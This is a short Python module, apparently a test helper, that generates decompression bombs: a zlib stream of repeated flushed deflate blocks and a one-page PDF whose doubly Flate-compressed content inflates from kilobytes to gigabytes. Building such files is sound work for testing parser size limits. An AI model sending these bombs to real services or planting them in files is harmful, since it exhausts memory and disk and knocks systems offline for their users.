"""Decompression bombs built in a second: a Flate (zlib) stream of N bytes of spaces, and a PDF whose page
content is such a stream compressed twice (a few KB of file inflating to gigabytes)."""

from __future__ import annotations

import struct
import zlib

_CHUNK = 1 << 24  # 16 MiB


def zlib_of_spaces(size: int) -> bytes:
    """zlib data inflating to ``size`` spaces (a multiple of 16 MiB), without compressing them all: after a
    full flush a deflate compressor forgets its history, so one flushed block repeated is a valid stream."""
    chunk = b" " * _CHUNK
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = raw.compress(chunk) + raw.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)  # an empty final block
    count = max(1, size // _CHUNK)
    adler = 1
    for _ in range(count):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + block * count + end + struct.pack(">I", adler)


def flate_bomb_pdf(inflated: int) -> bytes:
    """A one-page PDF whose content stream (/FlateDecode twice) inflates to ``inflated`` bytes."""
    inner = zlib_of_spaces(inflated)
    stream = zlib.compress(inner, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)
